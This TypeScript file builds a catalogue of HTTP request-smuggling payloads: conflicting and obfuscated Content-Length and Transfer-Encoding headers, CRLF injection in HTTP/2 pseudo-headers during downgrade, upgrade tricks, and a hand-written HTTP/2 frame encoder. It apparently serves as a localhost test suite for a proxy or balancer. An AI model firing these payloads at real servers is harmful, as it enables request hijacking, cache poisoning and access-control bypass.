/** Request smuggling: messages that a second parser splits differently. */

/** @param names of the outer and the hidden request, as both are logged */
type Attack = (names: { readonly outer: string; readonly hidden: string }) => string

const type = 'Content-Type: application/x-www-form-urlencoded'
const lines = (...all: string[]) => all.map((line) => `${line}\r\n`).join('')
const request = (name: string) =>
  lines('GET /healthz HTTP/1.1', 'Host: localhost', `X-Request-Id: ${name}`, '')
const chunk = (text: string) => `${text.length.toString(16)}\r\n${text}\r\n`
const end = '0\r\n\r\n'

/** A POST. `LENGTH` is the body's length, `HIDDEN` the other request. */
const form =
  (headers: string, body = `${end}HIDDEN`): Attack =>
  ({ outer, hidden }) => {
    const text = body
      .replace('CHUNK', chunk(request(hidden)) + end)
      .replace('HIDDEN', request(hidden))
    const head = lines('POST /capture-lead HTTP/1.1', 'Host: localhost', `X-Request-Id: ${outer}`)
    return `${head}${type}\r\n${headers.replaceAll('LENGTH', String(text.length))}\r\n\r\n${text}`
  }

/** A GET, followed by another request. */
const question =
  (headers: string, line = 'GET /healthz HTTP/1.1'): Attack =>
  ({ outer, hidden }) => {
    const next = request(hidden)
    const head = lines(line, 'Host: localhost', `X-Request-Id: ${outer}`)
    return `${head}${headers.replaceAll('LENGTH', String(next.length))}\r\n${next}`
  }

const both = (coding: string) => form(`Content-Length: LENGTH\r\n${coding}`)
const chunks = (body: string) => form('Transfer-Encoding: chunked', body)
const websocket = lines(
  'Connection: Upgrade',
  'Upgrade: websocket',
  'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==',
)

/** The first one hides nothing: two pipelined requests. */
export const attacks: Readonly<Record<string, Attack>> = {
  'two requests': question(''),
  'a length, and chunks that end before it': both('Transfer-Encoding: chunked'),
  'chunks, and a length that ends in the first': form(
    'Content-Length: 4\r\nTransfer-Encoding: chunked',
    'CHUNK',
  ),
  'a blank before the colon': both('Transfer-Encoding : chunked'),
  'a tab before the coding': both('Transfer-Encoding:\tchunked'),
  'a vertical tab before the coding': both('Transfer-Encoding: \x0bchunked'),
  'a coding in quotes': both('Transfer-Encoding: "chunked"'),
  'a coding in capitals': both('TRANSFER-ENCODING: CHUNKED'),
  'a coding with an underscore': both('Transfer_Encoding: chunked'),
  'a coding in two lines': both('Transfer-Encoding:\r\n chunked'),
  'a coding behind a line feed': both('X: a\nTransfer-Encoding: chunked'),
  'a coding behind a carriage return': both('X: a\rTransfer-Encoding: chunked'),
  'an unknown coding': both('Transfer-Encoding: xchunked'),
  'two codings': both('Transfer-Encoding: chunked\r\nTransfer-Encoding: identity'),
  'chunks in nothing': both('Transfer-Encoding: identity, chunked'),
  'nothing in chunks': both('Transfer-Encoding: chunked, identity'),
  'two lengths, the first 0': form('Content-Length: 0\r\nContent-Length: LENGTH', 'HIDDEN'),
  'two lengths, the second 0': form('Content-Length: LENGTH\r\nContent-Length: 0', 'HIDDEN'),
  'one length twice': form('Content-Length: LENGTH\r\nContent-Length: LENGTH', 'HIDDEN'),
  'a list of lengths': form('Content-Length: LENGTH, LENGTH', 'HIDDEN'),
  'a length with a sign': form('Content-Length: +LENGTH', 'HIDDEN'),
  'a hexadecimal length': form('Content-Length: 0x10', 'HIDDEN'),
  'an octal length': form('Content-Length: 0LENGTH', 'HIDDEN'),
  'a length with a blank before the colon': form('Content-Length : LENGTH', 'HIDDEN'),
  'a length in two lines': form('Content-Length:\r\n LENGTH', 'HIDDEN'),
  'a length in the second line of something else': form(
    'X: a\r\n Content-Length: 0\r\nContent-Length: LENGTH',
    'HIDDEN',
  ),
  'no length': form('Content-Length:', 'HIDDEN'),
  'a length for this hop alone': form(
    'Connection: Content-Length\r\nContent-Length: LENGTH',
    'HIDDEN',
  ),
  'chunks for this hop alone': form(
    'Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked',
    'CHUNK',
  ),
  'a request as a body': form('Content-Length: LENGTH', 'HIDDEN'),
  'a body that waits to be asked for': form(
    'Expect: 100-continue\r\nContent-Length: LENGTH',
    'HIDDEN',
  ),
  'a chunk with a remark': chunks(`5;a=b\r\nname=\r\n${end}HIDDEN`),
  'a chunk with a remark of a line feed': chunks(`2;\nxx\r\n40\r\n${end}HIDDEN\r\n${end}`),
  'chunks that end with line feeds': chunks('5\nname=\n0\n\nHIDDEN'),
  'a chunk with a blank behind its size': chunks(`5 \r\nname=\r\n${end}HIDDEN`),
  'a chunk with a hexadecimal size': chunks(`0x5\r\nname=\r\n${end}HIDDEN`),
  'a chunk too large to be': chunks(`10000000000000005\r\nname=\r\n${end}HIDDEN`),
  'a length behind the last chunk': chunks('0\r\nContent-Length: 5\r\n\r\nHIDDEN'),
  'a question with a body': question('Content-Length: LENGTH\r\n'),
  'a question for the head alone, with a body': question(
    'Content-Length: LENGTH\r\n',
    'HEAD /healthz HTTP/1.1',
  ),
  'a question with a blank in a name': question('Content Length: LENGTH\r\n'),
  'a question with an underscore in a name': question('Content_Length: LENGTH\r\n'),
  'a question with a zero in it': question('X: a\0b\r\n'),
  'a question to another host': question('', 'GET http://evil.example/healthz HTTP/1.1'),
  'two versions': question('', 'GET /healthz HTTP/1.1 HTTP/1.1'),
  'an old version': question('Connection: keep-alive\r\n', 'GET /healthz HTTP/1.0'),
  'no version': question('', 'GET /healthz'),
  'line feeds alone': (names) => question('')(names).replaceAll('\r\n', '\n'),
  'a way to somewhere': question('', 'CONNECT localhost:80 HTTP/1.1'),
  'a websocket where there is none': question(`${websocket}Sec-WebSocket-Version: 13\r\n`),
  'a websocket of no version': question(
    `${websocket}Sec-WebSocket-Version: 777\r\n`,
    'GET /realtime/v1/websocket?apikey=x HTTP/1.1',
  ),
  'an upgrade to HTTP/2': question(
    lines('Connection: Upgrade, HTTP2-Settings', 'Upgrade: h2c', 'HTTP2-Settings: AAMAAABk'),
  ),
}

type Fields = readonly [string, string][]

/**
 * A POST over HTTP/2, whose lengths and headers the balancer rewrites for HTTP/1. `HIDDEN` is the
 * other request, `LENGTH` its length.
 */
const http2Form =
  (more: Fields, body = '0\r\n\r\nHIDDEN', given: Readonly<Record<string, string>> = {}): Attack =>
  ({ outer, hidden }) => {
    const pseudo = { ':method': 'POST', ':scheme': 'http', ':path': '/capture-lead', ...given }
    const fields: Fields = [
      ...Object.entries({ ':authority': 'localhost', ...pseudo }),
      ['x-request-id', outer],
      ['content-type', 'application/x-www-form-urlencoded'],
      ...more,
    ]
    const next = request(hidden)
    const fill = (text: string) => text.replace('HIDDEN', next).replace('LENGTH', `${next.length}`)
    return writeRequest(
      fields.map(([name, value]) => [fill(name), fill(value)]),
      fill(body),
    )
  }

const line = ' HTTP/1.1\r\nHost: localhost\r\n\r\nHIDDEN'

/** The first one is valid. */
export const attacksByHttp2: Readonly<Record<string, Attack>> = {
  'a request as a body': http2Form([], 'HIDDEN'),
  'a length of 0': http2Form([['content-length', '0']], 'HIDDEN'),
  'a length that ends in the body': http2Form([['content-length', '5']]),
  'two lengths': http2Form([
    ['content-length', '0'],
    ['content-length', 'LENGTH'],
  ]),
  'a coding': http2Form([['transfer-encoding', 'chunked']]),
  'a coding in a value': http2Form([['x', 'a\r\ntransfer-encoding: chunked']]),
  'a coding behind a line feed': http2Form([['x', 'a\ntransfer-encoding: chunked']]),
  'a coding in a name': http2Form([['x: a\r\ntransfer-encoding', 'chunked']]),
  'a length in a value': http2Form([['x', 'a\r\ncontent-length: 0']], 'HIDDEN'),
  'a request in a value': http2Form([['x', 'a\r\n\r\nHIDDEN']]),
  'a request in a name': http2Form([['x: a\r\n\r\nHIDDEN', 'a']]),
  'a request in the path': http2Form([], '', { ':path': `/healthz${line}` }),
  'a request in the method': http2Form([], '', { ':method': `GET /healthz${line}` }),
  'a request in the host': http2Form([], '', { ':authority': 'localhost\r\n\r\nHIDDEN' }),
  'a request in the scheme': http2Form([], '', { ':scheme': `http://localhost/${line}` }),
  'a blank in the path': http2Form([], 'HIDDEN', { ':path': '/healthz HTTP/1.1' }),
  'a zero in a value': http2Form([['x', 'a\0b']], 'HIDDEN'),
  'a field for this hop alone': http2Form(
    [
      ['connection', 'content-length'],
      ['content-length', 'LENGTH'],
    ],
    'HIDDEN',
  ),
}

const preface = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
const [data, headers, settings] = [0, 1, 4]
const [endStream, endHeaders] = [1, 4]

/** Writes one HTTP/2 request by hand, with literal headers that no library would send. */
function writeRequest(fields: readonly [string, string][], body: string): string {
  const block = fields.map(([name, value]) => `\0${sized(name)}${sized(value)}`).join('')
  return (
    preface +
    frame(settings, 0, 0, '') +
    frame(headers, endHeaders, 1, block) +
    frame(data, endStream, 1, body)
  )
}

/** @throws when the length exceeds one byte */
function sized(text: string): string {
  if (text.length > 126) throw new Error('Too long.')
  return String.fromCharCode(text.length) + text
}

function frame(type: number, flags: number, stream: number, payload: string): string {
  const { length } = payload
  return String.fromCharCode(0, length >> 8, length & 255, type, flags, 0, 0, 0, stream) + payload
}
